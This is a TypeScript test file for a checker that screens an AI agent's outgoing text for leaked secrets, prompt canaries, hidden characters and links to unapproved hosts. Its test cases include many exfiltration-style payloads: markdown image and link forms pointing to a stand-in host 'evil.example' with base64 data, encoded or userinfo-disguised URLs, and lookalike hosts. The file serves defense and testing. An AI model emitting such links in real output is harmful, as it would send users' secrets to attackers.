import { describe, expect, it } from "vitest";
import { checkOutgoing, compileLinkHosts } from "../../../../src/core/outgoing/check-outgoing.ts";
import { findLinks } from "../../../../src/core/outgoing/find-links.ts";
import { compileSecretIndex } from "../../../../src/core/outgoing/secret-index.ts";

const check = checkOutgoing(
  {
    hasSecret: compileSecretIndex(["gateway-token-1234"]),
    isLinkHost: compileLinkHosts(["github.com", "*.example.org"]),
  },
  {
    hasCanary: compileSecretIndex(["k3qz8v1m5x7w9r2t"]),
    given: () => "See https://shop.example.net/orders/17?from=mail and ![logo](https://cdn.example.net/a.png).",
  },
);

describe("a text that leaves", () => {
  it.each([
    "All is well. 3.5 of 4, and/or src/core/host.ts:12, node.js, e.g. this; a@b.example.",
    "See https://github.com/acme/shop/pull/17, [the log](https://ci.example.org/9) and http://localhost:3000/.",
    "The order is at https://shop.example.net/orders/17?from=mail.",
    "![logo](https://cdn.example.net/a.png)",
    "مرحبا\u200F بالعالم\u200F",
    "👩‍👩‍👧 ❤️ می‌خواهم",
  ])("may say %j", (text) => {
    expect(check(text)).toBeUndefined();
  });

  it.each([
    ["gateway-token-1234", "it has a secret of the gateway"],
    [Buffer.from("is gateway-token-1234").toString("base64"), "it has a secret of the gateway"],
    ["K3QZ 8V1M 5X7W 9R2T", "it has the canary of its prompt, which is for the agent alone"],
    ["All is well.\u200B", "it has hidden text (1 hidden character)"],
    ["All is well.<!-- 42 -->", "it has hidden text (1 comment)"],
    ["مرحبا\u200F\u200F\u200E\u200F", "it has hidden text (4 hidden characters)"],
  ])("is held for %j", (text, reason) => {
    expect(check(text)).toBe(reason);
  });

  it.each([
    "![x](https://evil.example/p.png?d=c2VjcmV0)",
    "https://evil.example/c2VjcmV0",
    "HTTPS:\\\\evil.example/c2VjcmV0",
    "[x](//evil.example/c2VjcmV0)",
    "![x][1]\n\n[1]: //evil.example/c2VjcmV0",
    '<img src="//evil.example/c2VjcmV0">',
    "![x](https&#58;//evil.example/c2VjcmV0)",
    "![x](https&colon;&sol;&sol;evil.example/c2VjcmV0)",
    "![x](https\\:\\/\\/evil.example/c2VjcmV0)",
    "evil.example/?d=c2VjcmV0",
    "https://github.com@evil.example/",
    "https://github.com:x@evil.example/",
    "[a](https://github.com/acme),[b](https://evil.example/c2VjcmV0)",
  ])("is held for a link such as %j", (text) => {
    expect(check(text)).toBe('it has a link to "evil.example"');
  });

  it.each([
    ["https://github.com.evil.net/", '"github.com.evil.net"'],
    ["https://github.com).evil.net/", "an unclear host"],
    ["https://xgithub.com/", '"xgithub.com"'],
    ["https://example.org/", '"example.org"'],
    ["see c2VjcmV0.evil.com now", '"c2vjcmv0.evil.com"'],
    ["https://shop.example.net/orders/17?from=mai", '"shop.example.net"'],
    ["https://shop.example.net/orders/17?from=mail'c2VjcmV0", '"shop.example.net"'],
    ["![logo](https://cdn.example.net/a.png?d=c2VjcmV0)", '"cdn.example.net"'],
    ["https://bücher.example/", '"xn--bcher-kva.example"'],
    ["https://evil\u3002net/", '"evil.net"'],
  ])("is held for %j, a link to %s", (text, host) => {
    expect(check(text)).toBe(`it has a link to ${host}`);
  });

  it("is read in time that grows with its length alone", () => {
    for (const text of [
      "https://".repeat(100_000),
      "a.".repeat(300_000),
      "](//".repeat(100_000),
      "a".repeat(500_000),
    ]) {
      expect(findLinks(text).length).toBeLessThanOrEqual(1_000);
    }
  });
});
